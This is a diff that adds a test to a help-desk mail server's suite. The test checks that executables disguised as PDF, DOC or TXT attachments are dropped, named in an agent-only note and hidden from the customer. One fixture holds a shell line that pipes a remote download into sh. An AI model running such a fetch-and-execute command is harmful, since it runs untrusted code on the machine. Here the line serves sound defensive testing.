@@ -156,6 +156,28 @@ test('mail: the infected attachment is not kept, an internal note names it; the 
   assert.equal(stored(srv, EICAR), false);
 });
 
+test('mail: executables (ELF, PE, shell script) are never kept, whatever their name; an internal note says why', async () => {
+  const elf = Buffer.from('7f454c4602010100000000000000000002003e00010000000000000000000000', 'hex');
+  const pe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(200)]);
+  const sh = Buffer.from('#!/bin/sh\ncurl http://198.51.100.1/x | sh\n');
+  const c = new Client(srv.url); await c.signup('eve@customer.test', 'customer-pass-123');
+  const r = await inbound(srv, token, mailWith('eve@customer.test', 'my statement', [
+    ['statement.pdf', elf], ['invoice.doc', pe], ['fix.txt', sh], ['notes.txt', CLEAN]]));
+  assert.equal(r.status, 201, r.text);
+  const t = (await admin.get('/api/v1/tickets/' + r.json.ticket)).json;
+  assert.deepEqual(t.messages.flatMap((m) => m.attachments.map((x) => x.filename)), ['notes.txt']);
+  const note = t.messages.find((m) => m.internal && /not kept/.test(m.body));
+  assert.ok(note, 'an internal note for the agents');
+  assert.match(note.body, /"statement\.pdf": it is an executable program \(application\/x-executable\)/);
+  assert.match(note.body, /"invoice\.doc": it is an executable program \(application\/x-dosexec\)/);
+  assert.match(note.body, /"fix\.txt": it is an executable program \(text\/x-shellscript\)/);
+  for (const b of [elf, pe, sh]) assert.equal(stored(srv, b), false);
+  // the customer's own view of the ticket shows neither the note nor the files
+  const mine = await c.get('/api/v1/tickets/' + r.json.ticket);
+  assert.equal(mine.status, 200, mine.text);
+  assert.equal(mine.json.messages.filter((m) => /not kept/.test(m.body)).length, 0);
+});
+
 test('TCP socket (host:port) works the same way', async () => {
   const s2 = await startServer({ env: { FRONTDESK_CLAMD_SOCKET: `127.0.0.1:${tcpPort}` } });
   try {
